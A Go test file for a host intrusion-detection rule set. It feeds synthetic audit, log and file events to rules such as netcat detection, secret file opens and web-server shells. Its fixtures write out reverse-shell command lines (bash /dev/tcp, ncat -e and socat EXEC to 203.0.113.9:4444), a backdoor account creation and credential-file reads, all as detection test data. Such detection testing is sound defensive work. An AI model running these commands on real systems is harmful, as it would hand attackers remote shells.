package rules

import (
	"encoding/json"
	"fmt"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// fields is the body of an event under construction; absent deletes a key.
type fields map[string]any

var absent = new(int)

// with returns a copy of f with the key/value pairs set (absent removes).
func (f fields) with(kv ...any) fields {
	out := make(fields, len(f)+len(kv)/2)
	for k, v := range f {
		out[k] = v
	}
	for i := 0; i+1 < len(kv); i += 2 {
		k := kv[i].(string)
		if kv[i+1] == absent {
			delete(out, k)
		} else {
			out[k] = kv[i+1]
		}
	}
	return out
}

var brsSeq int

// agentEvent wraps body in the envelope of rules-events.md §3.2 and
// returns its JSON.
func agentEvent(t testing.TB, eventType string, ts int64, body fields) string {
	t.Helper()
	brsSeq++
	m := fields{
		"_id":               fmt.Sprintf("7b2e0c1d-3f4a-4b5c-9d6e-%012d", brsSeq),
		"event_type":        eventType,
		"agent_id":          "5f0a3d0e-8c4b-4a55-9b7a-2c7f3c6d1e01",
		"organization_id":   "5e8f1c2b3a4d5e6f7a8b9c0d",
		"timestamp":         ts,
		"event_time":        ts,
		"_insert_time":      ts + 150,
		"agent_metadata":    fields{"agent_id": "5e8f1c2b3a4d5e6f7a8b9c0d/5f0a3d0e", "deployment_mode": "host", "version": "3.0.0"},
		"host_metadata":     fields{"hostname": "web-1", "kernel": "5.10.0-23-amd64", "os_version": "ubuntu-20.04", "instance_id": "i-0123456789abcdef0"},
		"provider_metadata": fields{"cloud_provider": "aws", "account_id": "123456789012", "availability_zone": "us-east-1a"},
	}
	for k, v := range body {
		m[k] = v
	}
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

const brsT0 = int64(1690000000000)

// execve is an audit event of a program start (rules-events.md §3.3).
func execve(command, exe, arguments, user, auser string, tty any) fields {
	args := strings.Fields(arguments)
	return fields{
		"syscall": "execve", "type": "start", "success": true, "exit": "0",
		"exe": exe, "command": command, "args": args, "arguments": arguments, "cwd": "/home/" + auser,
		"path": []string{exe, "/lib64/ld-linux-x86-64.so.2"}, "pid": 23117, "ppid": 1187,
		"uid": 1000, "gid": 1000, "user": user, "group": user, "auid": 1000, "auser": auser,
		"session": 7, "tty": tty,
		"parent_metadata": fields{"exe": "/usr/bin/bash", "pid": 1187, "timestamp": brsT0 - 1000},
		"header":          fields{"id": "a1b2", "milliseconds": brsT0, "timestamp": "1690000000.000", "sequenceId": 918273},
	}
}

// syscallEv is an audit event of another syscall: type is its name.
func syscallEv(syscall, command, exe, user string) fields {
	return fields{
		"syscall": syscall, "type": syscall, "success": true, "exit": "0", "exe": exe, "command": command,
		"arguments": command, "pid": 4242, "ppid": 1, "uid": 0, "user": user, "auid": 4294967295,
		"session": 4294967295, "tty": nil,
	}
}

// connect is an audit connect event.
func connect(command, exe, user, dstIP string, dstPort int) fields {
	return fields{
		"syscall": "connect", "type": "connect", "success": true, "exe": exe, "command": command,
		"src_ip": "10.0.1.15", "src_port": 43512, "dst_ip": dstIP, "dst_port": dstPort, "protocol": "tcp",
		"pid": 811, "ppid": 1, "uid": 33, "user": user, "auid": 4294967295, "session": 4294967295, "tty": nil,
	}
}

// logSig is a host (log signature) event.
func logSig(sigid int, groups []string, comment, log, user, srcIP string) fields {
	f := fields{
		"_type": "host", "hostname": "web-1", "comment": comment, "sigid": sigid, "group": groups,
		"groups": groups[:1], "level": 5, "location": "/var/log/auth.log", "log": log, "pid": 4123,
	}
	if user != "" {
		f["user"] = user
	}
	if srcIP != "" {
		f["src_ip"] = srcIP
	}
	return f
}

// fileEv is a file (FIM) event; type is the kind.
func fileEv(kind, filename, command, exe, user string) fields {
	return fields{
		"type": kind, "filename": filename, "command": command, "exe": exe,
		"arguments": command + " " + filename, "user": user, "uid": 0, "pid": 3321, "session": 7,
		"src_user": "ubuntu", "dst_user": user,
	}
}

func sshFailure(user, srcIP string) fields {
	return logSig(5710, []string{"syslog", "sshd", "invalid_login", "authentication_failed"},
		"Attempt to login using a non-existent user", "Jul 22 04:26:40 web-1 sshd[4123]: Invalid user "+user+" from "+srcIP+" port 52044",
		user, srcIP)
}

type brsCase struct {
	rule  string
	name  string
	event string
	want  bool
}

func baseRuleCases(t testing.TB) []brsCase {
	audit := func(f fields) string { return agentEvent(t, "audit", brsT0, f) }
	host := func(f fields) string { return agentEvent(t, "host", brsT0, f) }
	file := func(f fields) string { return agentEvent(t, "file", brsT0, f) }
	sudo := execve("sudo", "/usr/bin/sudo", "sudo systemctl restart nginx", "ubuntu", "ubuntu", "pts/0")
	su := execve("su", "/usr/bin/su", "su -", "alice", "alice", "pts/1")
	return []brsCase{
		{"User: Sudo Usage", "matches sudo by a user", audit(sudo), true},
		{"User: Sudo Usage", "matches interactive sudo by root", audit(sudo.with("user", "root", "auser", "root")), true},
		{"User: Sudo Usage", "suppresses non-interactive sudo by root", audit(sudo.with("user", "root", "tty", nil)), false},
		{"User: Sudo Usage", "ignores sudoedit", audit(execve("sudoedit", "/usr/bin/sudo", "sudoedit /etc/hosts", "ubuntu", "ubuntu", "pts/0")), false},
		{"User: Sudo Usage", "ignores sudo's exit", audit(sudo.with("syscall", "exit_group", "type", "exit_group")), false},

		{"User: Privilege Escalations", "matches su by a user", audit(su), true},
		{"User: Privilege Escalations", "matches sudo by a user", audit(sudo), true},
		{"User: Privilege Escalations", "ignores sudo by root", audit(sudo.with("user", "root")), false},

		{"User: Su Usage", "matches su by a user", audit(su), true},
		{"User: Su Usage", "suppresses non-interactive su by root", audit(execve("su", "/usr/bin/su", "su postgres -c psql", "root", "root", nil)), false},
		{"User: Su Usage", "ignores sudo", audit(sudo), false},

		{"Process: Netcat Detected", "matches nc through the Debian alternative", audit(execve("nc", "/usr/bin/nc.openbsd", "nc -lvnp 4444", "www-data", "ubuntu", nil)), true},
		{"Process: Netcat Detected", "matches ncat", audit(execve("ncat", "/usr/bin/ncat", "ncat 203.0.113.9 4444 -e /bin/sh", "ubuntu", "ubuntu", "pts/0")), true},
		{"Process: Netcat Detected", "matches socat", audit(execve("socat", "/usr/bin/socat", "socat TCP:203.0.113.9:4444 EXEC:/bin/sh", "ubuntu", "ubuntu", nil)), true},
		{"Process: Netcat Detected", "ignores ncdu", audit(execve("ncdu", "/usr/bin/ncdu", "ncdu /var", "ubuntu", "ubuntu", "pts/0")), false},

		{"Process: Ptrace Usage", "matches a ptrace call", audit(syscallEv("ptrace", "gdb", "/usr/bin/gdb", "ubuntu")), true},
		{"Process: Ptrace Usage", "ignores starting a debugger", audit(execve("gdb", "/usr/bin/gdb", "gdb -p 811", "ubuntu", "ubuntu", "pts/0")), false},

		{"User Activity: Login Failures", "matches an invalid ssh user", host(sshFailure("admin", "198.51.100.7")), true},
		{"User Activity: Login Failures", "matches a PAM failure by its group",
			host(logSig(5503, []string{"pam", "syslog", "authentication_failed"}, "PAM: User login failed.",
				"Jul 22 04:30:01 web-1 sudo: pam_unix(sudo:auth): authentication failure; logname=ubuntu uid=1000 user=ubuntu", "ubuntu", "")), true},
		{"User Activity: Login Failures", "ignores a successful login",
			host(logSig(5715, []string{"syslog", "sshd", "authentication_success"}, "SSHD authentication success.",
				"Jul 22 04:31:07 web-1 sshd[4200]: Accepted publickey for ubuntu from 198.51.100.7 port 52100", "ubuntu", "198.51.100.7")), false},
		{"User Activity: Login Failures", "ignores an audit event of a process group named like fail",
			audit(execve("ls", "/usr/bin/ls", "ls", "failover", "ubuntu", nil).with("group", "failover")), false},

		{"User Activity: Repeated Login Failures", "counts an invalid ssh user", host(sshFailure("admin", "198.51.100.7")), true},
		{"User Activity: Repeated Login Failures", "ignores other log signatures",
			host(logSig(5402, []string{"syslog", "sudo"}, "Successful sudo to ROOT executed.", "Jul 22 04:32:00 web-1 sudo: ubuntu : COMMAND=/bin/ls", "ubuntu", "")), false},

		{"User: New User Added", "matches the new user signature",
			host(logSig(5902, []string{"adduser", "syslog"}, "New user added to the system.",
				"Jul 22 04:33:10 web-1 useradd[2211]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash", "", "")), true},
		{"User: New User Added", "ignores a new group",
			host(logSig(5901, []string{"adduser", "syslog"}, "New group added to the system.",
				"Jul 22 04:33:10 web-1 groupadd[2210]: new group: name=backdoor, GID=1001", "", "")), false},

		{"User: Account Management Commands", "matches useradd", audit(execve("useradd", "/usr/sbin/useradd", "useradd -m -s /bin/bash backdoor", "root", "ubuntu", "pts/0")), true},
		{"User: Account Management Commands", "matches passwd", audit(execve("passwd", "/usr/bin/passwd", "passwd", "ubuntu", "ubuntu", "pts/0")), true},
		{"User: Account Management Commands", "ignores users", audit(execve("users", "/usr/bin/users", "users", "ubuntu", "ubuntu", "pts/0")), false},

		{"File: Account File Changes", "matches a shadow change", file(fileEv("modify", "/etc/shadow", "passwd", "/usr/bin/passwd", "root")), true},
		{"File: Account File Changes", "matches a new sudoers drop-in", file(fileEv("create", "/etc/sudoers.d/90-backdoor", "tee", "/usr/bin/tee", "root")), true},
		{"File: Account File Changes", "matches a permission change on passwd", file(fileEv("attrib", "/etc/passwd", "chmod", "/usr/bin/chmod", "root")), true},
		{"File: Account File Changes", "ignores the passwd- backup", file(fileEv("modify", "/etc/passwd-", "useradd", "/usr/sbin/useradd", "root")), false},
		{"File: Account File Changes", "ignores reading shadow", file(fileEv("open", "/etc/shadow", "sshd", "/usr/sbin/sshd", "root")), false},

		{"File: Configuration File Changes", "matches an sshd_config edit", file(fileEv("modify", "/etc/ssh/sshd_config", "vim", "/usr/bin/vim.basic", "root")), true},
		{"File: Configuration File Changes", "matches a new cron job", file(fileEv("create", "/etc/cron.d/update", "bash", "/usr/bin/bash", "root")), true},
		{"File: Configuration File Changes", "matches a deleted file", file(fileEv("delete", "/etc/audit/rules.d/audit.rules", "rm", "/usr/bin/rm", "root")), true},
		{"File: Configuration File Changes", "ignores the editor's swap file", file(fileEv("modify", "/etc/ssh/.sshd_config.swp", "vim", "/usr/bin/vim.basic", "root")), false},
		{"File: Configuration File Changes", "ignores dpkg's staging file", file(fileEv("create", "/etc/nginx/nginx.conf.dpkg-new", "cp", "/usr/bin/cp", "root")), false},
		{"File: Configuration File Changes", "suppresses the package manager", file(fileEv("modify", "/etc/nginx/nginx.conf", "dpkg", "/usr/bin/dpkg", "root")), false},
		{"File: Configuration File Changes", "suppresses the DHCP client on resolv.conf", file(fileEv("modify", "/etc/resolv.conf", "dhclient-script", "/usr/sbin/dhclient-script", "root")), false},
		{"File: Configuration File Changes", "suppresses ldconfig's cache", file(fileEv("create", "/etc/ld.so.cache~", "ldconfig.real", "/usr/sbin/ldconfig.real", "root")), false},
		{"File: Configuration File Changes", "leaves account files to their own rule", file(fileEv("modify", "/etc/shadow", "passwd", "/usr/bin/passwd", "root")), false},
		{"File: Configuration File Changes", "ignores a sibling directory sharing the prefix", file(fileEv("modify", "/etcetera/app.conf", "vim", "/usr/bin/vim.basic", "root")), false},
		{"File: Configuration File Changes", "ignores opens", file(fileEv("open", "/etc/ssh/sshd_config", "sshd", "/usr/sbin/sshd", "root")), false},

		{"File: System File Changes", "matches a replaced binary", file(fileEv("modify", "/usr/bin/ps", "cp", "/usr/bin/cp", "root")), true},
		{"File: System File Changes", "matches a setuid bit on bash", file(fileEv("attrib", "/bin/bash", "chmod", "/usr/bin/chmod", "root")), true},
		{"File: System File Changes", "matches a new kernel module deep under /lib", file(fileEv("create", "/lib/modules/5.10.0-23-amd64/extra/diamorphine.ko", "cp", "/usr/bin/cp", "root")), true},
		{"File: System File Changes", "matches a changed libc under /usr/lib", file(fileEv("modify", "/usr/lib/x86_64-linux-gnu/libc.so.6", "python3", "/usr/bin/python3.8", "root")), true},
		{"File: System File Changes", "suppresses the package manager", file(fileEv("modify", "/usr/bin/ps", "dpkg", "/usr/bin/dpkg", "root")), false},
		{"File: System File Changes", "ignores a subdirectory of a non-recursive path", file(fileEv("create", "/usr/bin/X11/xterm", "cp", "/usr/bin/cp", "root")), false},
		{"File: System File Changes", "ignores Python bytecode", file(fileEv("create", "/usr/lib/python3/dist-packages/__pycache__/six.cpython-38.pyc", "python3", "/usr/bin/python3.8", "root")), false},
		{"File: System File Changes", "ignores opens", file(fileEv("open", "/usr/bin/ps", "bash", "/usr/bin/bash", "root")), false},

		{"File: Secret File Opens", "matches reading a user's AWS credentials", file(fileEv("open", "/home/ubuntu/.aws/credentials", "python3", "/usr/bin/python3.8", "ubuntu")), true},
		{"File: Secret File Opens", "matches reading root's SSH key", file(fileEv("open", "/root/.ssh/id_rsa", "cat", "/usr/bin/cat", "root")), true},
		{"File: Secret File Opens", "matches reading root's AWS config", file(fileEv("open", "/root/.aws/config", "aws", "/usr/local/bin/aws", "root")), true},
		{"File: Secret File Opens", "matches a key deep in a home directory", file(fileEv("open", "/home/deploy/app/.ssh/id_ed25519", "scp", "/usr/bin/scp", "deploy")), true},
		{"File: Secret File Opens", "suppresses sshd reading authorized_keys", file(fileEv("open", "/home/ubuntu/.ssh/authorized_keys", "sshd", "/usr/sbin/sshd", "root")), false},
		{"File: Secret File Opens", "ignores known_hosts", file(fileEv("open", "/home/ubuntu/.ssh/known_hosts", "ssh", "/usr/bin/ssh", "ubuntu")), false},
		{"File: Secret File Opens", "ignores other home files", file(fileEv("open", "/home/ubuntu/.bashrc", "bash", "/usr/bin/bash", "ubuntu")), false},
		{"File: Secret File Opens", "ignores a directory named like .aws", file(fileEv("open", "/home/ubuntu/.awsx/notes", "cat", "/usr/bin/cat", "ubuntu")), false},
		{"File: Secret File Opens", "ignores writes", file(fileEv("modify", "/home/ubuntu/.aws/credentials", "vim", "/usr/bin/vim.basic", "ubuntu")), false},

		{"File: SSH Authorized Keys Changes", "matches an appended root key", file(fileEv("modify", "/root/.ssh/authorized_keys", "bash", "/usr/bin/bash", "root")), true},
		{"File: SSH Authorized Keys Changes", "matches a new authorized_keys2", file(fileEv("create", "/home/ubuntu/.ssh/authorized_keys2", "tee", "/usr/bin/tee", "ubuntu")), true},
		{"File: SSH Authorized Keys Changes", "suppresses cloud-init", file(fileEv("create", "/home/ubuntu/.ssh/authorized_keys", "cloud-init", "/usr/bin/python3.8", "root")), false},
		{"File: SSH Authorized Keys Changes", "ignores reads", file(fileEv("open", "/root/.ssh/authorized_keys", "sshd", "/usr/sbin/sshd", "root")), false},
		{"File: SSH Authorized Keys Changes", "ignores a copy outside .ssh", file(fileEv("modify", "/home/ubuntu/backup/authorized_keys", "cp", "/usr/bin/cp", "ubuntu")), false},

		{"Network: Outbound Connection from Web Server", "matches nginx reaching a public address", audit(connect("nginx", "/usr/sbin/nginx", "www-data", "203.0.113.9", 4444)), true},
		{"Network: Outbound Connection from Web Server", "matches php-fpm reaching the metadata service", audit(connect("php-fpm7.4", "/usr/sbin/php-fpm7.4", "www-data", "169.254.169.254", 80)), true},
		{"Network: Outbound Connection from Web Server", "matches apache over IPv6", audit(connect("apache2", "/usr/sbin/apache2", "www-data", "2001:db8::1", 443)), true},
		{"Network: Outbound Connection from Web Server", "suppresses a private upstream", audit(connect("nginx", "/usr/sbin/nginx", "www-data", "10.0.2.15", 8080)), false},
		{"Network: Outbound Connection from Web Server", "suppresses a docker network address", audit(connect("nginx", "/usr/sbin/nginx", "www-data", "172.20.0.5", 3000)), false},
		{"Network: Outbound Connection from Web Server", "suppresses an IPv4-mapped loopback", audit(connect("httpd", "/usr/sbin/httpd", "apache", "::ffff:127.0.0.1", 9000)), false},
		{"Network: Outbound Connection from Web Server", "ignores a unix socket", audit(connect("nginx", "/usr/sbin/nginx", "www-data", "", 0).with("dst_ip", absent, "dst_port", absent, "src_ip", absent, "src_port", absent)), false},
		{"Network: Outbound Connection from Web Server", "ignores other programs", audit(connect("curl", "/usr/bin/curl", "ubuntu", "203.0.113.9", 443)), false},
		{"Network: Outbound Connection from Web Server", "ignores node", audit(connect("node", "/usr/bin/node", "app", "203.0.113.9", 443)), false},

		{"Process: Shell Spawned by Web Server", "matches a shell under apache",
			audit(execve("sh", "/usr/bin/dash", "sh -c id", "www-data", "unset", nil).with("parent_metadata", fields{"exe": "/usr/sbin/apache2", "pid": 811})), true},
		{"Process: Shell Spawned by Web Server", "matches a shell under php-fpm",
			audit(execve("bash", "/usr/bin/bash", "bash -c whoami", "www-data", "unset", nil).with("parent_metadata", fields{"exe": "/usr/sbin/php-fpm8.1", "pid": 900})), true},
		{"Process: Shell Spawned by Web Server", "ignores a login shell", audit(execve("bash", "/usr/bin/bash", "-bash", "ubuntu", "ubuntu", "pts/0").with("parent_metadata", fields{"exe": "/usr/sbin/sshd", "pid": 700})), false},

		{"Process: Execution from Temporary Directory", "matches a program in /tmp", audit(execve("kworker", "/tmp/.x/kworker", "./kworker -o pool:3333", "www-data", "unset", nil)), true},
		{"Process: Execution from Temporary Directory", "matches a program in /dev/shm", audit(execve("a", "/dev/shm/a", "/dev/shm/a", "ubuntu", "ubuntu", "pts/0")), true},
		{"Process: Execution from Temporary Directory", "ignores tmux", audit(execve("tmux", "/usr/bin/tmux", "tmux attach", "ubuntu", "ubuntu", "pts/0")), false},
		{"Process: Execution from Temporary Directory", "ignores a path merely starting with /tmp", audit(execve("x", "/tmpfs/bin/x", "x", "ubuntu", "ubuntu", "pts/0")), false},

		{"Process: Reverse Shell Command Line", "matches bash /dev/tcp",
			audit(execve("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "www-data", "unset", nil)), true},
		{"Process: Reverse Shell Command Line", "matches a Python pty",
			audit(execve("python3", "/usr/bin/python3.8", `python3 -c import pty;pty.spawn("/bin/bash")`, "www-data", "unset", nil)), true},
		{"Process: Reverse Shell Command Line", "ignores tcpdump", audit(execve("tcpdump", "/usr/sbin/tcpdump", "tcpdump -i eth0 tcp port 80", "root", "ubuntu", "pts/0")), false},

		{"Kernel: Module Loaded", "matches finit_module", audit(syscallEv("finit_module", "modprobe", "/usr/bin/kmod", "root")), true},
		{"Kernel: Module Loaded", "ignores unloading", audit(syscallEv("delete_module", "rmmod", "/usr/bin/kmod", "root")), false},
	}
}

func TestBaseRuleSetIsWellFormed(t *testing.T) {
	base := BaseRules()
	if len(base) == 0 {
		t.Fatal("the Base Rule Set is empty")
	}
	if _, err := NewEngine(BaseRuleSet()); err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	ref := regexp.MustCompile(`\{\{\s*([^{}]*?)\s*\}\}`)
	names := make(map[string]bool)
	for _, b := range base {
		r := b.Rule
		t.Run(r.Name, func(t *testing.T) {
			if err := ValidateRule(r); err != nil {
				t.Errorf("ValidateRule: %v", err)
			}
			if names[r.Name] {
				t.Errorf("duplicate name")
			}
			names[r.Name] = true
			if canon, ok := ParseRuleType(string(r.Type)); !ok || canon != r.Type {
				t.Errorf("type %q is not canonical", r.Type)
			}
			if r.ID != "" || r.RulesetID != "" {
				t.Errorf("ids %q/%q set; the store assigns them", r.ID, r.RulesetID)
			}
			if !r.Enabled || r.Severity < 1 || r.Severity > 3 || r.Window < 1 || r.Threshold < 1 || r.Filter == "" || r.Title == "" {
				t.Errorf("enabled %v, severity %d, window %d, threshold %d, filter %q, title %q",
					r.Enabled, r.Severity, r.Window, r.Threshold, r.Filter, r.Title)
			}
			if n := len(r.Name); n > 200 {
				t.Errorf("name has %d characters", n)
			}
			if n := len(b.AlertDescription); n < 1 || n > 300 {
				t.Errorf("alertDescription has %d characters, want 1..300", n)
			}
			if diff := cmp.Diff(EffectiveAggregateFields(r.Type, r.AggregateFields), r.AggregateFields); diff != "" {
				t.Errorf("aggregateFields are not effective (-want +got):\n%s", diff)
			}
			for _, m := range ref.FindAllStringSubmatch(r.Title, -1) {
				found := false
				for _, f := range r.AggregateFields {
					found = found || f == m[1]
				}
				if !found {
					t.Errorf("title substitutes %q, which is not an aggregate field", m[1])
				}
			}
		})
	}
	if len(BaseRuleSet()) != len(base) {
		t.Errorf("BaseRuleSet has %d rules, BaseRules %d", len(BaseRuleSet()), len(base))
	}
}

func TestBaseRuleSetCoversTheIssue(t *testing.T) {
	// The issue's list, each with the rules that cover it.
	want := map[string][]string{
		"sudo":                               {"User: Sudo Usage", "User: Privilege Escalations"},
		"su":                                 {"User: Su Usage"},
		"netcat, ncat, socat":                {"Process: Netcat Detected"},
		"ptrace":                             {"Process: Ptrace Usage"},
		"login failures":                     {"User Activity: Login Failures", "User Activity: Repeated Login Failures"},
		"new user added":                     {"User: New User Added", "User: Account Management Commands", "File: Account File Changes"},
		"/etc, /bin, /sbin, /usr/sbin, /lib": {"File: Configuration File Changes", "File: System File Changes"},
		"credential files":                   {"File: Secret File Opens"},
		"web server outbound":                {"Network: Outbound Connection from Web Server"},
	}
	have := make(map[string]bool)
	for _, r := range BaseRuleSet() {
		have[r.Name] = true
	}
	for topic, rules := range want {
		for _, name := range rules {
			if !have[name] {
				t.Errorf("%s: rule %q is missing", topic, name)
			}
		}
	}
}

func TestBaseRuleSetReturnsFreshSlices(t *testing.T) {
	a := BaseRuleSet()
	a[0].Suppressions[0] = "changed"
	a[len(a)-1].AggregateFields[0] = "changed"
	b := BaseRuleSet()
	if b[0].Suppressions[0] == "changed" || b[len(b)-1].AggregateFields[0] == "changed" {
		t.Error("changing one BaseRuleSet result changed the next")
	}
}

func TestBaseRuleSetMatchesRealisticEvents(t *testing.T) {
	eng, err := NewEngine(BaseRuleSet())
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	cases := baseRuleCases(t)
	positive, negative := make(map[string]bool), make(map[string]bool)
	known := make(map[string]bool)
	for _, r := range BaseRuleSet() {
		known[r.Name] = true
	}
	for _, c := range cases {
		if !known[c.rule] {
			t.Errorf("case %q names unknown rule %q", c.name, c.rule)
			continue
		}
		if c.want {
			positive[c.rule] = true
		} else {
			negative[c.rule] = true
		}
		t.Run(c.rule+"/"+c.name, func(t *testing.T) {
			ev := mustEvent(t, c.event)
			var matched []string
			eng.Evaluate(ev, func(m Match) { matched = append(matched, m.Rule.Name) })
			got := false
			for _, n := range matched {
				got = got || n == c.rule
			}
			if got != c.want {
				t.Errorf("rule matched = %v, want %v (matched rules: %q)\nevent: %s", got, c.want, matched, c.event)
			}
		})
	}
	for name := range known {
		if !positive[name] || !negative[name] {
			t.Errorf("rule %q lacks a matching case (%v) or a near miss (%v)", name, positive[name], negative[name])
		}
	}
}

// decisions runs events through the Base Rule Set and an Aggregator, as the
// pipeline does, and returns the decisions per rule name.
func decisions(t *testing.T, events []string) map[string][]Decision {
	t.Helper()
	eng, err := NewEngine(BaseRuleSet())
	if err != nil {
		t.Fatalf("NewEngine: %v", err)
	}
	agg := NewAggregator()
	out := make(map[string][]Decision)
	for _, js := range events {
		ev := mustEvent(t, js)
		ts, _ := ev.Timestamp()
		eng.Evaluate(ev, func(m Match) {
			out[m.Rule.Name] = append(out[m.Rule.Name], agg.Observe(m, ev.AgentID(), ts))
		})
	}
	return out
}

func kinds(ds []Decision) []DecisionKind {
	var out []DecisionKind
	for _, d := range ds {
		out = append(out, d.Kind)
	}
	return out
}

func TestBaseRuleSetThresholds(t *testing.T) {
	users := []string{"admin", "root", "test", "oracle", "ubuntu", "postgres"}
	failures := func(gapSeconds int64, n int) []string {
		var evs []string
		for i := 0; i < n; i++ {
			evs = append(evs, agentEvent(t, "host", brsT0+int64(i)*gapSeconds*1000, sshFailure(users[i%len(users)], "198.51.100.7")))
		}
		return evs
	}
	t.Run("alerts on 5 login failures from one address within 60 s", func(t *testing.T) {
		got := decisions(t, failures(10, 6))
		brute := got["User Activity: Repeated Login Failures"]
		want := []DecisionKind{Pending, Pending, Pending, Pending, NewAlert, Increment}
		if diff := cmp.Diff(want, kinds(brute)); diff != "" {
			t.Fatalf("decisions (-want +got):\n%s", diff)
		}
		alert := brute[4]
		if alert.Count != 5 || alert.CreatedAt != brsT0+40000 || alert.ExpiresAt != brsT0+100000 || len(alert.EventIDs) != 5 {
			t.Errorf("alert count %d, created %d, expires %d, %d event ids; want 5, %d, %d, 5",
				alert.Count, alert.CreatedAt, alert.ExpiresAt, len(alert.EventIDs), brsT0+40000, brsT0+100000)
		}
		if want := "User Activity (Brute Force): 5 login failures within a minute from IP 198.51.100.7"; alert.Title != want {
			t.Errorf("title %q, want %q", alert.Title, want)
		}
		if diff := cmp.Diff([]Aggregate{{"src_ip", "198.51.100.7"}}, alert.Aggregates); diff != "" {
			t.Errorf("aggregates (-want +got):\n%s", diff)
		}
		// The per-user rule fires once per distinct user.
		if diff := cmp.Diff([]DecisionKind{NewAlert, NewAlert, NewAlert, NewAlert, NewAlert, NewAlert},
			kinds(got["User Activity: Login Failures"])); diff != "" {
			t.Errorf("per-user decisions (-want +got):\n%s", diff)
		}
	})
	t.Run("does not alert on 5 failures spread over 80 s", func(t *testing.T) {
		got := decisions(t, failures(20, 5))
		for _, d := range got["User Activity: Repeated Login Failures"] {
			if d.Kind == NewAlert {
				t.Fatalf("alert at count %d; the fixed 60 s windows never hold 5 failures", d.Count)
			}
		}
		if n := len(got["User Activity: Repeated Login Failures"]); n != 5 {
			t.Errorf("%d decisions, want 5", n)
		}
	})
	t.Run("alerts on the fifth privilege escalation of a user within an hour", func(t *testing.T) {
		var evs []string
		for i := 0; i < 5; i++ {
			cmd := "sudo"
			if i == 2 {
				cmd = "su"
			}
			f := execve(cmd, "/usr/bin/"+cmd, fmt.Sprintf("%s cat /var/log/app%d.log", cmd, i), "alice", "alice", "pts/0")
			evs = append(evs, agentEvent(t, "audit", brsT0+int64(i)*10*60*1000, f))
		}
		got := decisions(t, evs)
		esc := got["User: Privilege Escalations"]
		if diff := cmp.Diff([]DecisionKind{Pending, Pending, Pending, Pending, NewAlert}, kinds(esc)); diff != "" {
			t.Fatalf("decisions (-want +got):\n%s", diff)
		}
		if want := "User: Privilege Escalations: alice used sudo or su 5 times within an hour"; esc[4].Title != want {
			t.Errorf("title %q, want %q", esc[4].Title, want)
		}
		// Each distinct sudo command line is its own Sudo Usage alert.
		if diff := cmp.Diff([]DecisionKind{NewAlert, NewAlert, NewAlert, NewAlert}, kinds(got["User: Sudo Usage"])); diff != "" {
			t.Errorf("sudo usage decisions (-want +got):\n%s", diff)
		}
	})
	t.Run("renders a File rule's title and aggregates", func(t *testing.T) {
		ev := agentEvent(t, "file", brsT0, fileEv("open", "/home/ubuntu/.aws/credentials", "python3", "/usr/bin/python3.8", "ubuntu"))
		got := decisions(t, []string{ev})["File: Secret File Opens"]
		if len(got) != 1 || got[0].Kind != NewAlert {
			t.Fatalf("decisions %+v, want one new alert", got)
		}
		if want := "File: Secret File Opens: python3 opened /home/ubuntu/.aws/credentials as ubuntu"; got[0].Title != want {
			t.Errorf("title %q, want %q", got[0].Title, want)
		}
		want := []Aggregate{{"command", "python3"}, {"filename", "/home/ubuntu/.aws/credentials"}, {"user", "ubuntu"}}
		if diff := cmp.Diff(want, got[0].Aggregates); diff != "" {
			t.Errorf("aggregates (-want +got):\n%s", diff)
		}
	})
}

// TestBaseRuleSetOverlaps checks that every positive case
// matches only the rules it is meant for plus the documented overlaps, so
// that one event does not raise a pile of alerts.
func TestBaseRuleSetOverlaps(t *testing.T) {
	eng, err := NewEngine(BaseRuleSet())
	if err != nil {
		t.Fatal(err)
	}
	// Pairs of rules allowed to fire on the same event.
	allowed := map[[2]string]bool{
		{"User: Privilege Escalations", "User: Sudo Usage"}:                         true,
		{"User: Privilege Escalations", "User: Su Usage"}:                           true,
		{"User Activity: Login Failures", "User Activity: Repeated Login Failures"}: true,
	}
	for _, c := range baseRuleCases(t) {
		if !c.want {
			continue
		}
		var matched []string
		eng.Evaluate(mustEvent(t, c.event), func(m Match) { matched = append(matched, m.Rule.Name) })
		sort.Strings(matched)
		for i := range matched {
			for j := i + 1; j < len(matched); j++ {
				if !allowed[[2]string{matched[i], matched[j]}] {
					t.Errorf("%s/%s: %q and %q both match", c.rule, c.name, matched[i], matched[j])
				}
			}
		}
	}
}
